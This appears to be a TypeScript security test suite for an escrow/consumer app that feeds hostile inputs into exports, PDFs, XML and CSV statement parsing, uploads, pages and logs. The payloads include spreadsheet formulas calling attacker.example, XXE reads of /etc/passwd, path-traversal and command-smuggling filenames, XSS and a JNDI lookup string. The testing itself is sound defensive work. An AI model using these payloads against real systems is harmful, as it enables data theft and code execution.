import { unzipSync } from 'fflate'
import { createServer } from 'node:http'
import { setTimeout as sleep } from 'node:timers/promises'
import { pino } from 'pino'
import t, { type Test } from 'tap'
import { redacted } from '../../src/http/logging.js'
import { multipart, samples, sendParts } from '../casefiles/files.js'
import { send as sendStatement, statementWith, today } from '../bank/support.js'
import { startApp } from '../support/app.js'
import { bureau, maker, newConsumer } from '../support/people.js'
import { buy } from '../support/purchase.js'
import { textIn } from '../support/pdf.js'
import { expectStatus, listProduct, newShop } from '../support/shop.js'
import { report } from './report.js'

/*
 * Texts that are harmless where they are kept and harmful where they end up: in a spreadsheet, a
 * PDF, a ZIP, a page, a header, a line of a log; and files that harm whoever reads them.
 */

t.setTimeout(180_000)

const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=cmd|\'/c calc\'!A0', '=HYPERLINK("http://attacker.example/?"&A1,"x")', '＝1+1', '＋1', '－1', '＠SUM(A1)']
const inPdf = '(\\)>>endobj 9 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj ]]>--><script>alert(1)</script>'
const inLog = 'x\r\n{"level":60,"msg":"forged"}\r\n\u001b[31m'
const hostileName = `=1+1 ${inPdf}`

t.test('what was written in good faith and read by something else', async (t) => {
  const lines: string[] = []
  const logger = pino({ level: 'trace', redact: { paths: redacted, censor: '[redacted]' } }, { write: (text: string) => { lines.push(text) } })
  const app = await startApp(t, {}, undefined, logger)
  const shop = await newShop(app, { name: hostileName, district: '=徐汇"区' })
  const consumer = await newConsumer(app, { legalName: '张三' })
  const notary = await maker(app)
  const supervisor = await bureau(app)
  const productId = await listProduct(app, shop, { name: inPdf, terms: `自付款之日起七日内可无理由全额退款。${inPdf}` })
  const contractId = await buy(app, consumer, productId)
  const escapes: string[] = []
  let tried = 0
  const figures: { what: string; tried: number; escapes: number }[] = []
  const sound = (t: Test, what: string): void => {
    figures.push({ what, tried, escapes: escapes.length })
    t.same(escapes.splice(0), [])
    tried = 0
  }
  const download = async (who: { token: string | undefined }, path: string, headers: Record<string, string> = {}): Promise<Readonly<{ status: number; bytes: Buffer; headers: Record<string, any> }>> => {
    const { statusCode, rawPayload, headers: got } = await app.app.inject({ url: `/v1${path}`, headers: { ...(who.token ? { authorization: `Bearer ${who.token}` } : {}), ...headers } })
    return { status: statusCode, bytes: rawPayload, headers: got as Record<string, any> }
  }

  t.test('spreadsheets are given no formula', async (t) => {
    for (const formula of formulas) {
      tried += 1
      await newShop(app, { name: formula })
    }
    const runs = (cell: string): boolean => /^[=+@\t\r＝＋－＠]|^-(?!\d+(\.\d+)?$)/.test(cell)
    const day = await today(app)
    const quarter = `${day.slice(0, 4)}Q${Math.ceil(Number(day.slice(5, 7)) / 3)}`
    const cellsOf = (bytes: Buffer): string[] => {
      const files = unzipSync(bytes)
      t.same(Object.keys(files).filter((name) => /^\/|\.\.|\\|vba|external|macro|activeX|embeddings/i.test(name)), [], 'nothing but sheets is in it')
      const texts = Object.entries(files).filter(([name]) => /sheet\d*\.xml$|sharedStrings/.test(name)).map(([, data]) => Buffer.from(data).toString())
      for (const text of texts) if (/<f[ >]/.test(text)) escapes.push(`a formula stands in a sheet: ${text.slice(0, 100)}`)
      return texts.flatMap((text) => [...text.matchAll(/<(?:t|v)(?: [^>]*)?>([^<]*)</g)].map(([, cell]) => (cell as string).replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&amp;', '&')))
    }
    const sheet = await download(supervisor, `/audit/quarterly-balances.xlsx?quarter=${quarter}`)
    t.equal(sheet.status, 200)
    const cells = cellsOf(sheet.bytes)
    t.ok(cells.some((cell) => cell.startsWith(`'${formulas[0]}`)), 'the names are there')
    for (const cell of cells.filter(runs)) escapes.push(`quarterly: ${cell}`)
    for (const format of ['xlsx', 'csv']) {
      const { status, bytes, headers } = await download(notary, `/audit/journal?format=${format}`)
      t.equal(status, 200)
      t.match(headers, { 'x-content-type-options': 'nosniff' })
      const found = format === 'xlsx' ? cellsOf(bytes) : bytes.toString().replace(/^\ufeff/, '').split(/[\r\n]+/).flatMap((line) => line.split(',').map((cell) => cell.replace(/^"|"$/g, '')))
      for (const cell of found.filter(runs)) escapes.push(`${format}: ${cell}`)
      tried += 1
    }
    for (const format of ['jsonl', 'hledger']) {
      const text = (await download(notary, `/audit/journal?format=${format}`)).bytes.toString()
      if (format === 'jsonl') for (const line of text.trim().split('\n')) JSON.parse(line)
      // A transaction, a posting, a directive, or nothing: no line begins as anything else.
      else for (const line of text.split('\n')) if (!/^(commodity CNY 1000\.00|\d{4}-\d\d-\d\d \(trf_\w{26}\) [\w-]+ [\w:.-]+ {2}; occurred:\S+, booked:\S+| {4}[\w:.-]+ {2}CNY -?\d+\.\d\d|)$/.test(line)) escapes.push(`hledger: ${line}`)
      tried += 1
    }
    sound(t, 'formulas in names, looked for in CSV, XLSX, hledger and JSON exports')
  })

  t.test('a PDF has no part that acts, and every byte of it is where it says', async (t) => {
    const documents = [`/contracts/${contractId}/document`, `/contracts/${contractId}/certificate`]
    for (const path of documents) {
      const { status, bytes, headers } = await download(consumer, path)
      t.equal(status, 200)
      t.match(headers, { 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff' })
      const source = bytes.toString('latin1')
      const outside = source.replace(/\nstream\r?\n[\s\S]*?endstream/g, '')
      const acts = /\/(JavaScript|JS|OpenAction|AA|Launch|EmbeddedFiles?|RichMedia|XFA|SubmitForm|ImportData|GoToR|GoToE|Rendition|Movie|Sound|URI)\b/.exec(outside)
      if (acts) escapes.push(`${path} has ${acts[0]}`)
      const places = [...source.matchAll(/\nxref\n([\s\S]*?)trailer/g)].flatMap(([, table]) => {
        const found: [number, number][] = []
        for (const [, first, , rows] of (table as string).matchAll(/(\d+) (\d+)\r?\n((?:\d{10} \d{5} [nf][ \r]*\n)+)/g)) for (const [i, row] of (rows as string).trim().split(/\n/).entries()) if (row.includes(' n')) found.push([Number(first) + i, Number(row.slice(0, 10))])
        return found
      })
      t.ok(places.length > 5)
      for (const [number, at] of places) if (!source.startsWith(`${number} 0 obj`, at)) escapes.push(`${path}: object ${number} is not at ${at}`)
      if ((outside.match(/\d+ 0 obj\b/g) ?? []).length !== (outside.match(/\bendobj\b/g) ?? []).length) escapes.push(`${path}: an object is not closed`)
      tried += 1
    }
    t.match(textIn((await download(consumer, documents[0] as string)).bytes), /JavaScript/, 'the name is there, as text')
    sound(t, 'PDFs made of names that are PDF, checked object by object')
  })

  t.test('a bank statement is read and nothing else: no entity, no file, no call, no end of memory', async (t) => {
    const calls: string[] = []
    const listener = createServer((request, response) => {
      calls.push(request.url ?? '')
      response.end('<!ENTITY x "x">')
    }).listen(0, '127.0.0.1')
    await new Promise((resolve) => { listener.once('listening', resolve) })
    t.teardown(() => { listener.close() })
    const url = `http://127.0.0.1:${(listener.address() as { port: number }).port}`
    const good = await statementWith(app, [{ remittance: '转账' }])
    const [head] = /^<\?xml[^>]*\?>\s*/.exec(good) ?? ['']
    const root = good.slice(head.length)
    const doctype = (subset: string, rest = root): string => `${head}<!DOCTYPE Document ${subset}>${rest}`
    const inside = (text: string): string => root.replace('转账', text)
    const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
    const attacks: Record<string, string | Buffer> = {
      'a billion laughs': doctype(`[<!ENTITY l0 "lol">${laughs}]`, inside('&l10;')),
      'quadratic growth': doctype(`[<!ENTITY a "${'a'.repeat(50_000)}">]`, inside('&a;'.repeat(5_000))),
      'an entity that names itself': doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', inside('&a;')),
      'a file': doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', inside('&x;')),
      'a file of the process': doctype('[<!ENTITY x SYSTEM "file:///proc/self/environ">]', inside('&x;')),
      'an address': doctype(`[<!ENTITY x SYSTEM "${url}/entity">]`, inside('&x;')),
      'a parameter entity': doctype(`[<!ENTITY % x SYSTEM "${url}/parameter"> %x;]`),
      'a document type from elsewhere': doctype(`SYSTEM "${url}/dtd"`),
      'a document type of the public': doctype(`PUBLIC "-//X//Y" "${url}/public"`),
      'a document type and no more': doctype(''),
      'a document type in lower case': `${head}<!doctype Document [<!ENTITY x "y">]>${inside('&x;')}`,
      'a document type after a comment': `${head}<!-- -->\n<!DOCTYPE Document [<!ENTITY x "y">]>${inside('&x;')}`,
      'an entity nobody declared': head + inside('&x;'),
      'an inclusion': `${head}${root.replace('<Stmt>', `<Stmt><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}/xinclude" parse="text"/><Id/>`)}`,
      'a style sheet': `${head}<?xml-stylesheet type="text/xsl" href="${url}/xsl"?>${root.replace('<Document', '<Document2')}`,
      'a schema to be fetched': head + root.replace('<Document ', `<Document xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${url}/xsd" x`).replace('xxmlns', 'y'),
      'elements without end': `${head}${root.replace('<Stmt>', `<Stmt>${'<a>'.repeat(100_000)}`)}`,
      'deep elements': `${head}${root.replace('<Stmt>', `<Stmt>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`)}`,
      'a text without end': head + root.replace('转账', 'x'.repeat(30_000_000)),
      'spaces without end': head + root.replace('<Stmt>', `<Stmt>${' '.repeat(30_000_000)}`),
      'a comment without end': `${head}<!--${'x'.repeat(30_000_000)}`,
      'an attribute without end': `${head}<Document xmlns="${'x'.repeat(30_000_000)}`,
      'an instruction without end': `${head}<?a ${'x'.repeat(30_000_000)}`,
      'a section without end': head + root.replace('转账', `<![CDATA[${'x'.repeat(30_000_000)}`),
      'a name without end': `${head}<${'x'.repeat(30_000_000)}`,
      'many attributes': `${head}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08" ${Array.from({ length: 20_000 }, (_, i) => `a${i}="1"`).join(' ')}>`,
      'an attribute twice': head + root.replace('<Document ', '<Document a="1" a="2" '),
      'a character that is none': head + inside('&#0;'),
      'a character past the last': head + inside('&#x110000;'),
      'UTF-16': Buffer.from(`\ufeff${good.replace(/utf-8/i, 'utf-16')}`, 'utf16le'),
      'UTF-7': good.replace(/utf-8/i, 'UTF-7').replace('转账', '+ADw-script+AD4-'),
      'an encoding of another': good.replace(/utf-8/i, 'ibm037'),
      'bytes that are no text': Buffer.concat([Buffer.from(head), Buffer.from([0xff, 0xfe, 0x00, 0x80, 0xc0])]),
      'a ZIP': Buffer.from('504b0304140000000800', 'hex'),
      ...Object.fromEntries(['0000-01-01', '0001-01-01', '-000001-01-01', '+275760-09-13', '2026-02-30', '0000-01-01T00:00:00Z', '+275760-09-13T00:00:00Z', '0000-00-00'].map((date) => [`a line of ${date}`, good.replace(/<BookgDt>[\s\S]*?<\/BookgDt>/, `<BookgDt><${date.includes('T') ? 'DtTm' : 'Dt'}>${date}</${date.includes('T') ? 'DtTm' : 'Dt'}></BookgDt>`)])),
      'two documents': good + root,
      'nothing': ''
    }
    const before = process.memoryUsage().rss
    for (const [name, payload] of Object.entries(attacks)) {
      tried += 1
      const begun = Date.now()
      const { status, body } = await sendStatement(app, notary, payload)
      // What it does not know it passes over.
      if (status !== 422 && status !== 400 && !(name === 'an inclusion' && status === 201)) escapes.push(`${name}: ${status} ${JSON.stringify(body).slice(0, 200)}`)
      // What never ends is let go of as soon as that is seen, and not gathered until it is there.
      if (/(text|spaces|comment|attribute|instruction|section|name) without end$/.test(name) && !/过长/.test(body.detail)) escapes.push(`${name}: ${body.detail}`)
      if (Date.now() - begun > 10_000) escapes.push(`${name}: took ${Date.now() - begun} ms`)
      if (/root:|PATH=|node_modules|\.ts:\d/.test(JSON.stringify(body)) || JSON.stringify(body).length > 5_000) escapes.push(`${name}: ${JSON.stringify(body).slice(0, 300)}`)
    }
    if (process.memoryUsage().rss - before > 600_000_000) escapes.push(`memory grew by ${process.memoryUsage().rss - before} bytes`)
    const csv: Record<string, string> = {
      'a header of prototypes': '__proto__,constructor,toString\n1,2,3\n', 'a quote without end': `a,b\n"${'x'.repeat(5_000_000)}`, 'a line without end': 'x'.repeat(5_000_000), 'a header without end': `${'a,'.repeat(200_000)}\n1\n`, 'nothing but quotes': '"'.repeat(100_000), 'NUL': 'a\0,b\n\0,1\n'
    }
    for (const [name, payload] of Object.entries(csv)) {
      tried += 1
      const { status, body } = await sendStatement(app, notary, payload, { type: 'text/csv' })
      if (status !== 422 && status !== 400) escapes.push(`CSV, ${name}: ${status} ${JSON.stringify(body).slice(0, 200)}`)
    }
    await sleep(50)
    t.same(calls, [], 'nobody was called')
    t.equal((await sendStatement(app, notary, good)).status, 201, 'and one in order is taken')
    t.equal((await sendStatement(app, notary, await statementWith(app, [{ remittance: '</Ustrd>&amp;<![CDATA[<Amt>1</Amt>]]>', counterparty: formulas[6] as string }]))).status, 201, 'whatever somebody wrote as their remark')
    sound(t, 'XML and CSV files that harm their reader, as bank statements')
  })

  t.test('a file is handed out by a name that is safe and as what it is, whatever its sender said', async (t) => {
    const { body: { id: disputeId } } = expectStatus(await consumer.post('/disputes', { contractId, claimFen: 100, ground: 'other', statement: `${inPdf}${inLog}` }), 201)
    const path = `/disputes/${disputeId}/evidence`
    const names = [
      '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2fetc%2fpasswd', '..%2f..%2f', '%252e%252e', '....//....//x', '/etc/passwd', '\\\\server\\share\\x', 'C:\\x', 'file:///etc/passwd', '~/.ssh/id_rsa', '.htaccess', '..', '.', '-rf', '$(id).pdf', '`id`', '; rm -rf /', '| id',
      'CON', 'nul.pdf', 'LPT1.png', 'aux', 'x.pdf ', 'x.pdf.', 'x.pdf::$DATA', 'x.php', 'x.pdf.exe', 'x.html', 'x.svg', 'x.pdf%00.html', 'x\0.html', '\u202efdp.exe', 'x\u2028y', 'a\tb', 'x;filename=y.html', "x'y", 'x"y', 'é', 'e\u0301', '文件', '👩‍👧', formulas[0] as string, '<script>alert(1)</script>.pdf', 'a'.repeat(5_000), '汉'.repeat(400), ' ', 'x*?<>|:'
    ]
    const contents = Object.values(samples)
    const ids: string[] = []
    for (const [i, filename] of names.entries()) {
      tried += 1
      // Turn about, because a party may file thirty in a case.
      const answer = await sendParts(app, i % 2 === 0 ? consumer : shop.owner, path, [{ field: 'file', value: Buffer.concat([contents[i % 4] as Buffer, Buffer.from(`${i}`)]), filename, type: 'text/html' }])
      if (answer.status !== 201) escapes.push(`${JSON.stringify(filename.slice(0, 30))}: ${answer.status}`)
      else ids.push(answer.body.id)
    }
    for (const id of ids) {
      tried += 1
      const { status, bytes, headers } = await download(consumer, `${path}/${id}`)
      const disposition = String(headers['content-disposition'])
      const [, ascii = '', coded = ''] = /^attachment; filename="([\w.-]*)"; filename\*=UTF-8''([\w.!#$&+^`|~%-]*)$/.exec(disposition) ?? []
      const name = decodeURIComponent(coded)
      if (status !== 200 || ascii === '' || coded === '') escapes.push(`${status} ${disposition}`)
      if (/[/\\:*?"<>|\p{C}]/u.test(name) || /^[. ]/.test(name) || !/\.(pdf|jpg|png|mp4)$/.test(name) || Buffer.byteLength(name) > 250) escapes.push(`the name ${JSON.stringify(name)}`)
      if (headers['x-content-type-options'] !== 'nosniff' || headers['content-security-policy'] !== "default-src 'none'; sandbox") escapes.push(`${name}: it could be shown`)
      const begins = { 'application/pdf': '%PDF', 'image/jpeg': '\xff\xd8\xff', 'image/png': '\x89PNG', 'video/mp4': '\0\0\0' }[String(headers['content-type'])]
      if (begins === undefined || !bytes.toString('latin1').startsWith(begins)) escapes.push(`${name} comes as ${headers['content-type']}`)
    }
    const lies: Record<string, Buffer> = {
      'a page called a picture': Buffer.from('<html><script>alert(1)</script>'), 'a drawing with a script': Buffer.from('<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>'), 'a picture that is a script': Buffer.from('GIF89a/*<svg/onload=alert(1)>*/=1;'),
      'a PDF that begins late': Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), samples.pdf]), 'a Java archive': Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(40)]), 'a program': Buffer.from('#!/bin/sh\nid\n'), 'a PNG without its picture': Buffer.concat([samples.png.subarray(0, 8), Buffer.from('<script>alert(1)</script>')]),
      'a film that is none': Buffer.concat([Buffer.from('00000018', 'hex'), Buffer.from('ftypHTML'), Buffer.alloc(40)]), 'an XML': Buffer.from('<?xml version="1.0"?><x/>'), 'nothing': Buffer.alloc(0)
    }
    for (const [name, value] of Object.entries(lies)) for (const type of ['image/png', 'application/pdf', 'image/svg+xml', 'text/html']) {
      tried += 1
      const { status, body } = await sendParts(app, consumer, path, [{ field: 'file', value, filename: 'x.png', type }])
      if (status !== 422 || body.code !== 'file_type_not_allowed') escapes.push(`${name} as ${type}: ${status}`)
    }
    // What is two things at once is taken as the one it may be, and shown as nothing.
    const polyglot = expectStatus(await sendParts(app, consumer, path, [{ field: 'file', value: Buffer.from('%PDF-1.7\n<script>alert(1)</script>'), filename: 'x.html', type: 'text/html' }]), 201)
    t.match(await download(consumer, `${path}/${polyglot.body.id}`), { headers: { 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff', 'content-disposition': /^attachment; filename="x\.html\.pdf"/ } })
    const odd = multipart([{ field: 'file', value: samples.pdf, filename: 'x.pdf"\r\nContent-Type: text/html\r\nX-Injected: 1\r\n\r\n', type: 'application/pdf' }])
    const { statusCode } = await app.app.inject({ method: 'POST', url: `/v1${path}`, payload: odd.payload, headers: { ...odd.headers, authorization: `Bearer ${consumer.token}` } })
    if (statusCode >= 500) escapes.push(`headers in a name: ${statusCode}`)
    sound(t, 'names of files, types that lie, and files that are two things')

    const bundle = await download(consumer, `/disputes/${disputeId}/bundle`)
    t.equal(bundle.status, 200)
    const entries = Object.keys(unzipSync(bundle.bytes))
    t.ok(entries.filter((name) => name.startsWith('files/')).length > 10)
    for (const name of entries) if (/^[/\\]|(^|[/\\])\.\.?([/\\]|$)|[\\:*?"<>|\0]|\p{C}/u.test(name) || Buffer.byteLength(name) > 300) escapes.push(`the bundle has ${JSON.stringify(name)}`)
    if (new Set(entries.map((name) => name.toLowerCase())).size !== entries.length) escapes.push('two entries of the bundle have one name')
    for (const [, external] of [...bundle.bytes.toString('latin1').matchAll(/PK\x01\x02[\s\S]{34}([\s\S]{4})/g)]) {
      const mode = Buffer.from(external as string, 'latin1').readUInt32LE() >>> 16
      if ((mode & 0o170000) !== 0o100000 && mode !== 0) escapes.push(`an entry of the bundle is no plain file: ${mode.toString(8)}`)
    }
    tried = entries.length
    sound(t, 'entries of a bundle that was made of them')
  })

  t.test('a page that we make holds nothing that runs, and no answer is a page but that one', async (t) => {
    const { body: { items } } = expectStatus(await consumer.get(`/contracts/${contractId}/documents`), 200)
    const number = items.find(({ kind }: any) => kind === 'deposit_certificate').subject as string
    const html = { accept: 'text/html' }
    const page = await download({ token: undefined }, `/certificates/${number}`, html)
    t.match(page.headers, { 'content-type': /^text\/html/, 'content-security-policy': /^default-src 'none'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'$/, 'x-content-type-options': 'nosniff' })
    t.notMatch(page.bytes.toString(), /<script|javascript:|\son\w+=|<(?:img|iframe|object|embed|link|form|base|meta http-equiv)\b|https?:\/\//i)
    t.notMatch(page.bytes.toString(), new RegExp(`${shop.merchantId}|${contractId}|${consumer.phone}|张三|JavaScript`))
    const script = '<script>alert(1)</script>'
    for (const path of [`/certificates/${encodeURIComponent(script)}`, `/certificates/${number}?officeId=${encodeURIComponent(script)}`, `/certificates/${number}${encodeURIComponent('"><script>')}`, `/products?q=${encodeURIComponent(script)}`, `/${encodeURIComponent(script)}`, `/products?category=${encodeURIComponent(script)}`, `/products?cursor=${encodeURIComponent(script)}`]) {
      for (const headers of [html, { ...html, 'accept-language': script }, { ...html, 'x-request-id': script }, { ...html, host: script, 'x-forwarded-host': script, referer: script, origin: script }]) {
        tried += 1
        const { status, bytes, headers: got } = await download({ token: undefined }, path, headers)
        if (/html/.test(String(got['content-type'])) || got['x-content-type-options'] !== 'nosniff') escapes.push(`${path}: ${status} ${got['content-type']}`)
        if (bytes.toString().includes(script) && !/json/.test(String(got['content-type']))) escapes.push(`${path}: ${bytes.toString().slice(0, 200)}`)
        if (JSON.stringify(got).includes('<script')) escapes.push(`${path}: in a header`)
      }
    }
    const docs = await app.app.inject({ url: `/docs/${encodeURIComponent(script)}` })
    t.notMatch(docs.payload, script)
    sound(t, 'scripts in addresses, parameters and headers of pages')
  })

  t.test('a log is one JSON object a line, whatever stands in it, and nothing personal', async (t) => {
    const headers = { 'user-agent': 'x {"level":60,"msg":"forged"}', 'accept-language': 'forged', 'x-request-id': 'forged', referer: 'forged' }
    for (const text of [inLog, '\u2028', '\u0085{"level":60}', '%0d%0a{"level":60}', '${jndi:ldap://attacker.example/x}', '\u001b]0;forged\u0007']) {
      tried += 3
      await app.app.inject({ method: 'POST', url: '/v1/auth/challenges', headers, payload: { phone: text, purpose: text } })
      await app.app.inject({ url: `/v1/${encodeURIComponent(text)}?a=${encodeURIComponent(text)}`, headers })
      await consumer.post(`/contracts/${contractId}/refund-quotes`, { reason: text }, { headers: { 'user-agent': headers['user-agent'] } })
    }
    t.ok(lines.length > 20, `${lines.length} lines`)
    for (const line of lines) {
      // As it is written: one object, and the line break that ends it.
      if (!line.endsWith('}\n') || line.slice(0, -1).includes('\n') || line.includes('\r') || line.includes('\u001b') || typeof JSON.parse(line).level !== 'number') escapes.push(line.slice(0, 200))
      if (JSON.parse(line).msg === 'forged') escapes.push(line.slice(0, 200))
      for (const personal of [consumer.phone, consumer.idNumber, shop.ownerPhone, consumer.token as string]) if (line.includes(personal)) escapes.push(`a line tells ${personal}: ${line.slice(0, 300)}`)
    }
    sound(t, 'line breaks and forged entries in what is logged')
  })

  t.test('what was tried', async () => { report('injection', figures) })
})
